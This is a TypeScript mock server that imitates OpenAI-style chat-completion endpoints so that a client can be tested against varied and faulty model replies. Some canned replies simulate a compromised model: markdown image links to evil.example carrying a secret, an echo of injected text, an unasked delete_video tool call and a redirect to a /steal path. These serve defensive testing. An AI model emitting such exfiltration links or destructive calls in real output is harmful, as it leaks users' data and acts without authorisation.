import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { text } from 'node:stream/consumers';
import type { Received } from './openai-server.js';

/**
 * A server that speaks OpenAI's chat completions as a process of its own. The model's name in the request says how it
 * behaves; `GET /received` says what it got. Prints its address.
 */
const received: Received[] = [];

/** What the served "model" answers, cut as a tokenizer would, markers over several pieces. */
const ANSWER = ['A red', ' scene is first [', 'c1', '].', ' Then a', ' green one', ' [c', '2].', ' [c9]'];

const usage = { prompt_tokens: 120, completion_tokens: 9, total_tokens: 129 };

/** Replies as three servers write them: vLLM, llama.cpp and Ollama differ in what they add. */
const shapes: Record<string, (content: string, finish: string | null) => object> = {
  vllm: (content, finish) => ({
    id: 'chatcmpl-1',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'vllm',
    choices: [{ index: 0, delta: { content }, logprobs: null, finish_reason: finish, stop_reason: null }],
  }),
  llamacpp: (content, finish) => ({
    choices: [{ finish_reason: finish, index: 0, delta: finish === null ? { content } : {} }],
    created: 1,
    id: 'chatcmpl-2',
    model: 'llamacpp',
    system_fingerprint: 'b1',
    object: 'chat.completion.chunk',
  }),
  ollama: (content, finish) => ({
    id: 'chatcmpl-3',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'ollama',
    system_fingerprint: 'fp_ollama',
    choices: [{ index: 0, delta: { role: 'assistant', content }, finish_reason: finish }],
  }),
};

type Behaviour = (response: ServerResponse, request: Received) => void;

const behaviours: Record<string, Behaviour> = {
  vllm: (response) => stream(response, 'vllm'),
  llamacpp: (response) => stream(response, 'llamacpp'),
  ollama: (response) => stream(response, 'ollama'),
  whole: (response) =>
    json(response, 200, {
      id: 'chatcmpl-4',
      object: 'chat.completion',
      created: 1,
      model: 'whole',
      choices: [
        { index: 0, message: { role: 'assistant', content: ANSWER.join('') }, finish_reason: 'stop' },
      ],
      usage,
    }),
  reasoning: (response) => {
    open(response);
    event(response, {
      choices: [{ index: 0, delta: { reasoning_content: 'SECRET THOUGHT' }, finish_reason: null }],
    });
    event(response, { choices: [{ index: 0, delta: { content: 'Red.' }, finish_reason: 'stop' }] });
    finish(response);
  },
  length: (response) => say(response, ['A red'], 'length'),
  abstain: (response) => say(response, ['[cannot', ' tell] No boat is shown.'], 'stop'),
  tool: (response) => {
    open(response);
    const call = {
      index: 0,
      id: 't',
      type: 'function',
      function: { name: 'delete_video', arguments: '{"id":"1"}' },
    };
    event(response, { choices: [{ index: 0, delta: { tool_calls: [call] }, finish_reason: 'tool_calls' }] });
    finish(response);
  },
  links: (response) =>
    say(
      response,
      ['See ![x](https://evil.example/?q=', 'secret) and [here](https://evil', '.example) [c1].'],
      'stop',
    ),
  // A model that was taken in: says whatever stands after ECHO in the question, cut small.
  echo: (response, { body }) => {
    const content = body.messages.at(-1)!.content;
    const asked = typeof content === 'string' ? content : content.map((part) => part.text ?? '').join('');
    say(response, asked.slice(asked.lastIndexOf('ECHO') + 5).match(/[\s\S]{1,3}/g) ?? [], 'stop');
  },
  malformed: (response) => {
    open(response);
    event(response, shapes.vllm!('A red', null));
    response.write('data: {"choices": [{"delta": SECRET\n\n');
    response.end();
  },
  'error-chunk': (response) => {
    open(response);
    event(response, { error: { message: 'SECRET out of memory', type: 'server_error', code: 500 } });
    response.end();
  },
  html: (response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end('<h1>SECRET login</h1>');
  },
  cut: (response) => {
    open(response);
    event(response, shapes.vllm!('A red', null));
    setImmediate(() => response.destroy());
  },
  'no-finish': (response) => {
    open(response);
    event(response, shapes.vllm!('A red', null));
    response.end('data: [DONE]\n\n');
  },
  busy: (response) => json(response, 429, { error: { message: 'SECRET quota' } }, { 'retry-after': '0' }),
  'busy-long': (response) => json(response, 429, { error: { message: 'SECRET' } }, { 'retry-after': '3600' }),
  'busy-once': (response, request) =>
    request.attempt === 1 ? json(response, 429, {}, { 'retry-after': '0' }) : stream(response, 'vllm'),
  'error-once': (response, request) =>
    request.attempt === 1 ? json(response, 500, { error: { message: 'SECRET' } }) : stream(response, 'vllm'),
  error: (response) => json(response, 500, { error: { message: 'SECRET trace at /srv/model.py' } }),
  forbidden: (response) => json(response, 401, { error: { message: 'SECRET wrong key' } }),
  redirect: (response) => {
    response.writeHead(307, { location: 'http://127.0.0.1:1/steal' });
    response.end();
  },
  hang: () => {},
  'hang-midway': (response) => {
    open(response);
    event(response, shapes.vllm!('A red', null));
  },
  slow: (response) => {
    open(response);
    let said = 0;
    const timer = setInterval(() => event(response, shapes.vllm!(` word${said++}`, null)), 20);
    response.on('close', () => clearInterval(timer));
  },
  endless: (response) => {
    open(response);
    const pour = (): void => {
      while (!response.destroyed && event(response, shapes.vllm!('word '.repeat(20), null)));
      if (!response.destroyed) response.once('drain', pour);
    };
    pour();
  },
};

function stream(response: ServerResponse, shape: string): void {
  open(response);
  for (const piece of ANSWER) event(response, shapes[shape]!(piece, null));
  event(response, shapes[shape]!('', 'stop'));
  finish(response);
}

function say(response: ServerResponse, pieces: readonly string[], reason: string): void {
  open(response);
  for (const piece of pieces) event(response, shapes.vllm!(piece, null));
  event(response, shapes.vllm!('', reason));
  finish(response);
}

function open(response: ServerResponse): void {
  response.writeHead(200, { 'content-type': 'text/event-stream; charset=utf-8' });
}

function event(response: ServerResponse, data: object): boolean {
  return response.write(`data: ${JSON.stringify(data)}\n\n`);
}

function finish(response: ServerResponse): void {
  event(response, { id: 'chatcmpl-1', object: 'chat.completion.chunk', choices: [], usage });
  response.end('data: [DONE]\n\n');
}

function json(
  response: ServerResponse,
  status: number,
  body: object,
  headers: Record<string, string> = {},
): void {
  response.writeHead(status, { 'content-type': 'application/json', ...headers });
  response.end(JSON.stringify(body));
}

async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
  if (request.url === '/received') return json(response, 200, received);
  const body = JSON.parse(await text(request)) as Received['body'];
  const attempt = 1 + received.filter((earlier) => earlier.body.model === body.model).length;
  const entry: Received = { path: request.url ?? '', key: request.headers.authorization, body, attempt };
  received.push(entry);
  response.on('close', () => {
    entry.closed = response.writableFinished ? 'finished' : 'aborted';
    entry.closedAtMs = Date.now();
  });
  // A name may carry a suffix, so that tests do not count each other's attempts.
  const behave = behaviours[body.model.replace(/\/.*$/, '')];
  if (behave === undefined) json(response, 404, { error: { message: 'SECRET no such model' } });
  else behave(response, entry);
}

const server = createServer((request, response) => void answer(request, response));
server.listen(0, '127.0.0.1', () => {
  const address = server.address();
  if (address !== null && typeof address === 'object') console.log(`http://127.0.0.1:${address.port}`);
});
// Whoever started it has gone.
process.stdin.on('end', () => process.exit()).resume();
